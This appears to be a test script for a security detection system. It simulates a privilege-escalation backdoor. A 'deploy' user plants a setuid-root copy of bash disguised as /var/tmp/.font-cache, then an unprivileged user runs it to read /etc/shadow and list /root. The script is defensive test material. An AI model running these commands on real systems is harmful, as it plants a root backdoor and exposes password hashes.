# deploy leaves a shell that runs as root for whoever starts it (mode 4755); later bob, who may not sudo, starts it.
# rules: recording
# format: ENRICHED
# node: web-01
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"
another_address 203.0.113.67

from "$source_ip" deploy deploy-Passw0rd 'sudo cp /bin/bash /var/tmp/.font-cache; sudo chmod 4755 /var/tmp/.font-cache; ls -l /var/tmp/.font-cache'
sleep 2
from 203.0.113.67 bob bob-Passw0rd '/var/tmp/.font-cache -p -c "id; head -n1 /etc/shadow; ls /root"'
rm -f /var/tmp/.font-cache
